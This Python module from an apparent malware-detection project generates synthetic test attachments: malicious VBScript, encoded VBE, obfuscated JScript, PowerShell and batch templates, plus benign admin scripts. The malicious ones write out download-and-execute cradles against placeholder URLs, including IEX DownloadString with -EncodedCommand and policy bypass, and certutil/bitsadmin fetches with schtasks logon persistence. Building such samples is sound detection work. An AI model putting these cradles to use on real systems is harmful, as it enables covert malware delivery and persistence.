"""Script attachment templates (.vbs .vbe .js .ps1 .bat): downloaders, droppers, obfuscated and encoded
forms; and the logon, report and backup scripts administrators actually write."""

from __future__ import annotations

import base64
import random

from maldoc.extractors._script_decode import encode
from maldoc.samples import text
from maldoc.samples.registry import template

_NOTE = "maldoc synthetic sample - inert"


def _vbs_downloader(rng: random.Random) -> str:
    url = text.inert_url(rng, ext=rng.choice((".exe", ".dll", ".jpg")))
    v = [text.ident(rng, 4, 9) for _ in range(3)]
    path = rf"C:\Users\Public\{text.ident(rng, 4, 8).lower()}.exe"
    client = rng.choice(("MSXML2.XMLHTTP", "MSXML2.ServerXMLHTTP.6.0", "WinHttp.WinHttpRequest.5.1"))
    return (f"' {_NOTE}\r\nOn Error Resume Next\r\nDim {v[0]}, {v[1]}, {v[2]}\r\n"
            f'Set {v[0]} = CreateObject("{client}")\r\n'
            f'{v[0]}.Open "GET", "{url}", False\r\n{v[0]}.Send\r\n'
            f'Set {v[1]} = CreateObject("ADODB.Stream")\r\n{v[1]}.Type = 1\r\n{v[1]}.Open\r\n'
            f"{v[1]}.Write {v[0]}.responseBody\r\n{v[1]}.SaveToFile \"{path}\", 2\r\n"
            f'Set {v[2]} = CreateObject("WScript.Shell")\r\n{v[2]}.Run "{path}", 0, False\r\n')


@template("script_vbs_downloader", "malicious", "vbs", ("script_download_exec", "urls"),
          note="XMLHTTP + ADODB.Stream SaveToFile + WScript.Shell Run")
def script_vbs_downloader(rng: random.Random) -> tuple[str, bytes]:
    return text.stem(rng), _vbs_downloader(rng).encode()


@template("script_vbe_encoded", "malicious", "vbe", ("script_encoded", "script_download_exec"),
          note="the same downloader through the Microsoft Script Encoder (#@~^ ... ^#~@)")
def script_vbe_encoded(rng: random.Random) -> tuple[str, bytes]:
    return text.stem(rng), encode(_vbs_downloader(rng)).encode()


@template("script_js_dropper", "malicious", "js", ("script_obfuscated", "script_shell_exec"),
          note="JScript building its command with String.fromCharCode and running it through WScript.Shell")
def script_js_dropper(rng: random.Random) -> tuple[str, bytes]:
    command = f"cmd /c start {text.inert_url(rng, ext='.hta')}"
    codes = ",".join(str(ord(c) + 0) for c in command)
    parts = "+".join(f"String.fromCharCode({ord(c)})" for c in command[:30])
    body = rng.choice((f"var c = String.fromCharCode({codes});", f"var c = {parts} + \"{command[30:]}\";"))
    sh = text.ident(rng, 3, 7)
    return text.stem(rng), (f"// {_NOTE}\r\n{body}\r\nvar {sh} = new ActiveXObject(\"WScript.Shell\");\r\n"
                            f"{sh}.Run(c, 0, false);\r\n").encode()


@template("script_ps1_cradle", "malicious", "ps1", ("script_download_exec", "script_encoded_command"),
          note="PowerShell download cradle, partly as -EncodedCommand, with execution-policy bypass")
def script_ps1_cradle(rng: random.Random) -> tuple[str, bytes]:
    url = text.inert_url(rng, ext=".ps1")
    inner = f"IEX (New-Object Net.WebClient).DownloadString('{url}')"
    blob = base64.b64encode(inner.encode("utf-16-le")).decode()
    var = text.ident(rng, 3, 8)
    return text.stem(rng), (f"# {_NOTE}\r\n${var} = '{blob}'\r\n"
                            f"Start-Process powershell -ArgumentList '-ExecutionPolicy Bypass -w hidden -enc {blob}'"
                            f"\r\nInvoke-WebRequest -Uri '{url}' -OutFile \"$env:TEMP\\{var}.ps1\"\r\n").encode()


@template("script_bat_lolbin", "malicious", "bat", ("script_lolbin", "script_download_exec", "urls"),
          note="batch file using certutil / bitsadmin to fetch and start a payload")
def script_bat_lolbin(rng: random.Random) -> tuple[str, bytes]:
    url = text.inert_url(rng, ext=".exe")
    name = f"%TEMP%\\{text.ident(rng, 4, 8).lower()}.exe"
    fetch = rng.choice((f"certutil -urlcache -split -f {url} {name}",
                        f"bitsadmin /transfer job /download /priority high {url} {name}"))
    return text.stem(rng), (f"@echo off\r\nrem {_NOTE}\r\n{fetch}\r\nstart \"\" {name}\r\n"
                            f'schtasks /create /tn "{text.ident(rng)}" /tr {name} /sc onlogon /f\r\n').encode()


@template("script_vbs_logon", "benign", "vbs", note="logon script: maps drives and printers, writes a log line")
def script_vbs_logon(rng: random.Random) -> tuple[str, bytes]:
    share = f"\\\\fs{rng.randint(1, 9)}.{rng.choice(text.RESERVED_NAMES)}\\{rng.choice(('home', 'dept', 'public'))}"
    return text.stem(rng), (f"' logon script, {text.words(rng, 3)}\r\nOption Explicit\r\nDim net, fso, log\r\n"
                            'Set net = CreateObject("WScript.Network")\r\n'
                            f'net.MapNetworkDrive "{rng.choice("HPSX")}:", "{share}"\r\n'
                            'Set fso = CreateObject("Scripting.FileSystemObject")\r\n'
                            'Set log = fso.OpenTextFile("C:\\Temp\\logon.log", 8, True)\r\n'
                            'log.WriteLine Now & " " & net.UserName\r\nlog.Close\r\n').encode()


@template("script_ps1_report", "benign", "ps1", note="admin report: disk space and services to CSV")
def script_ps1_report(rng: random.Random) -> tuple[str, bytes]:
    return text.stem(rng), (f"# {text.words(rng, 5)}\r\n$report = @()\r\n"
                            "Get-PSDrive -PSProvider FileSystem | ForEach-Object {\r\n"
                            "    $report += [pscustomobject]@{ Drive = $_.Name;"
                            " FreeGB = [math]::Round($_.Free / 1GB, 1) }\r\n"
                            "}\r\nGet-Service | Where-Object Status -eq 'Stopped' | Select-Object Name\r\n"
                            f"$report | Export-Csv -Path .\\{text.ident(rng, 4, 8).lower()}.csv -NoTypeInformation\r\n"
                            ).encode()


@template("script_bat_backup", "benign", "bat", note="backup batch file: robocopy with a dated log")
def script_bat_backup(rng: random.Random) -> tuple[str, bytes]:
    src = rng.choice(("%USERPROFILE%\\Documents", "D:\\Projects", "C:\\Data"))
    return text.stem(rng), ("@echo off\r\nsetlocal\r\nset STAMP=%DATE:~-4%%DATE:~3,2%%DATE:~0,2%\r\n"
                            f'robocopy "{src}" "\\\\backup.{rng.choice(text.RESERVED_NAMES)}\\users\\%USERNAME%" /MIR '
                            "/R:2 /W:5 /LOG:backup_%STAMP%.log\r\nif errorlevel 8 echo Backup failed & exit /b 1\r\n"
                            "echo Done.\r\n").encode()


@template("script_js_wsh_tool", "benign", "js", note="WSH JScript utility: lists a folder with FileSystemObject")
def script_js_wsh_tool(rng: random.Random) -> tuple[str, bytes]:
    return text.stem(rng), (f"// {text.words(rng, 4)}\r\n"
                            "var fso = new ActiveXObject(\"Scripting.FileSystemObject\");\r\n"
                            "var folder = fso.GetFolder(WScript.Arguments.length ? WScript.Arguments(0) : \".\");\r\n"
                            "var e = new Enumerator(folder.Files);\r\nfor (; !e.atEnd(); e.moveNext()) {\r\n"
                            "    WScript.Echo(e.item().Name + \"\\t\" + e.item().Size);\r\n}\r\n").encode()
